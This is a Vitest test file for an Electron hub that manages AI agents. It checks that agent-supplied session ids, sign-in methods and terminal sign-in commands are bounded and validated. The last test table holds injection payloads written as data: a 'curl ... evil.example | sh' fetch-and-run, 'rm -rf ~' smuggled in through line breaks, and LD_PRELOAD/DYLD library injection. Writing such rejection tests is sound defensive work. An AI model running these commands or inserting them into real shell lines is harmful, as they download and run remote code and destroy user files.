import { afterEach, describe, expect, it } from 'vitest';
import { MAX_SESSION_ID_CHARS } from '../../electron/core/sessions/session-commands';
import { MAX_AUTH_METHODS } from '../../electron/core/acp/agent-connection';
import { MAX_DESCRIPTION_CHARS, MAX_LABEL_CHARS } from '../../electron/core/acp/session-setup';
import { agentView, handshake, queueItem, startRig, type Rig } from './hub-fixture';
import { V1_INIT_RESULT } from './puppet';
import { closeSession, session, update, transcript } from './session-model-fixture';

let rig: Rig | undefined;
afterEach(async () => {
  await rig?.close();
  rig = undefined;
  await closeSession();
});

describe('session ids', () => {
  // The brief: every agent input bounded. The id goes with every event of its session to the renderer.
  it.each([
    ['longer than MAX_SESSION_ID_CHARS', 's'.repeat(MAX_SESSION_ID_CHARS + 1)],
    ['empty', ''],
    ['not text', 42],
  ])('opens no session when the agent answers with a session id %s, and says so', async (_, sessionId) => {
    const { hub, puppet, sessionKey } = await session(V1_INIT_RESULT);
    const second = hub.invoke('newSession', { agentId: 'a', cwd: '/' });
    await puppet.answer('session/new', { sessionId });
    await expect(second).rejects.toThrow(`Agent A answered without a usable session id (text of 1 to ${MAX_SESSION_ID_CHARS} characters), so no new session was opened.`);
    expect(hub.snapshot().sessions.map((s) => s.sessionKey)).toEqual([sessionKey]);
  });

  it('refuses a second session under an id the agent already uses, and the first keeps its own traffic', async () => {
    const { hub, puppet, sessionKey } = await session(V1_INIT_RESULT);
    const second = hub.invoke('newSession', { agentId: 'a', cwd: '/' });
    await puppet.answer('session/new', { sessionId: 'sess-1' });
    // spec E-REQ-7: a request names the one session it came from; two tabs under one id could not.
    await expect(second).rejects.toThrow('Agent A answered with a session id it already uses, so no new session was opened.');
    expect(hub.snapshot().sessions.map((s) => s.sessionKey)).toEqual([sessionKey]);
    const turn = hub.invoke('prompt', { sessionKey, text: 'question in tab 1' });
    const prompt = await puppet.next((m) => m.method === 'session/prompt');
    await puppet.send(update({ sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'answer for tab 1' } }));
    await puppet.send({ id: 9, method: 'session/request_permission', params: { sessionId: 'sess-1', toolCall: { toolCallId: 't', title: 'Edit file' }, options: [{ optionId: 'o', name: 'Allow', kind: 'allow_once' }] } });
    const item = await queueItem(hub);
    expect(item.scope).toMatchObject({ sessionKey });
    await puppet.send({ id: prompt.id, result: { stopReason: 'end_turn' } });
    await turn;
    expect(transcript(hub).map((e) => e.text)).toContain('answer for tab 1');
  });
});

describe('what initialize tells about the agent is bounded', () => {
  // The brief: every agent input is bounded by a named constant. Each sign-in method is a menu item, and the agent's
  // view (with every method) goes to the renderer on each change of the agent's status.
  it('keeps MAX_AUTH_METHODS sign-in methods, cuts names and descriptions, leaves out an id too long to send back, and cuts the agent info', async () => {
    rig = await startRig([{ id: 'a' }]);
    const { hub, puppets } = rig;
    const long = 'n'.repeat(10_000);
    await handshake(hub, puppets[0], 'a', {
      protocolVersion: 2,
      info: { name: long, title: long, version: long },
      capabilities: {},
      authMethods: [
        { methodId: 'i'.repeat(MAX_LABEL_CHARS + 1), name: 'Too long an id' },
        { methodId: 'login', name: long, description: long },
        ...Array.from({ length: 5000 }, (_, i) => ({ methodId: `m${i}`, name: `Method ${i}` })),
      ],
    });
    const view = agentView(hub, 'a');
    expect(view.authMethods).toHaveLength(MAX_AUTH_METHODS - 1);
    expect(view.authMethods[0]).toMatchObject({ methodId: 'login' });
    expect(view.authMethods[0].name).toHaveLength(MAX_LABEL_CHARS);
    expect(view.authMethods[0].description).toHaveLength(MAX_DESCRIPTION_CHARS);
    expect(view.agentInfo?.name).toHaveLength(MAX_LABEL_CHARS);
    expect(view.agentInfo?.title).toHaveLength(MAX_LABEL_CHARS);
    expect(view.agentInfo?.version).toHaveLength(MAX_LABEL_CHARS);
  });
});

describe('terminal sign-in', () => {
  it('advertises terminal sign-in and shows the command a terminal method needs, instead of calling it', async () => {
    rig = await startRig([{ id: 'a' }]);
    const { hub, puppets } = rig;
    const init = await puppets[0].next((m) => m.method === 'initialize');
    expect(init.params.capabilities.auth).toEqual({ terminal: {} });
    expect(init.params.clientCapabilities.auth).toEqual({ terminal: true });
    await handshake(hub, puppets[0], 'a', {
      protocolVersion: 2,
      info: { name: 'p', version: '1' },
      capabilities: {},
      authMethods: [{ methodId: 'login', type: 'terminal', name: 'Log in', args: ['--login', 'it is me'], env: [{ name: 'MODE', value: 'tty' }] }],
    });
    const [method] = hub.snapshot().agents[0].authMethods;
    expect(method.methodId).toBe('login');
    expect(method.terminalCommand).toMatch(/^MODE=tty .*puppet-agent\.mjs --login 'it is me'$/);
    await expect(hub.invoke('authenticate', { agentId: 'a', methodId: 'login' })).rejects.toThrow(/run this in a terminal/);
    expect(puppets[0].received.some((m) => m.method === 'auth/login')).toBe(false);
  });

  // No spec rule covers terminal sign-in; the brief's: bad agent input gets one plain sentence, nothing run.
  // The method's env names, args and values come from the agent, and the line is pasted into a shell.
  it.each([
    ['a name that is shell syntax', { name: 'X=1; curl -s https://evil.example/p | sh; Y', value: 'z' }, [], /a name no shell accepts/],
    ['a name holding a line break', { name: 'A\nrm -rf ~/important\nB', value: 'v' }, [], /a name no shell accepts/],
    ['a loader variable', { name: 'LD_PRELOAD', value: '/tmp/evil.so' }, [], /LD_PRELOAD, which would make the command load code/],
    ['a macOS loader variable', { name: 'DYLD_INSERT_LIBRARIES', value: '/tmp/evil.dylib' }, [], /DYLD_INSERT_LIBRARIES/],
    ['a line break in an argument', { name: 'MODE', value: 'tty' }, ['--login\nrm -rf ~'], /control characters/],
    ['an escape sequence in a value', { name: 'MODE', value: 'tty\u001b[8m' }, [], /control characters/],
    ['a command too long to read', { name: 'MODE', value: 'tty' }, ['x'.repeat(5000)], /its command is longer than 4096 characters/],
  ])('refuses a terminal method with %s, in one sentence, and shows no command', async (_, env, args, why) => {
    rig = await startRig([{ id: 'a', name: 'Agent A' }]);
    const { hub, puppets } = rig;
    await handshake(hub, puppets[0], 'a', {
      protocolVersion: 2,
      info: { name: 'p', version: '1' },
      capabilities: {},
      authMethods: [{ methodId: 'login', type: 'terminal', name: 'Log in', args, env: [env] }],
    });
    const [method] = hub.snapshot().agents[0].authMethods;
    expect(method.terminalCommand).toBeUndefined();
    expect(method.description).toMatch(why);
    expect(method.description).toMatch(/^Agent A's terminal sign-in was refused: [^\n]*\.$/);
    await expect(hub.invoke('authenticate', { agentId: 'a', methodId: 'login' })).rejects.toThrow(why);
    expect(puppets[0].received.some((m) => m.method === 'auth/login')).toBe(false);
  });
});
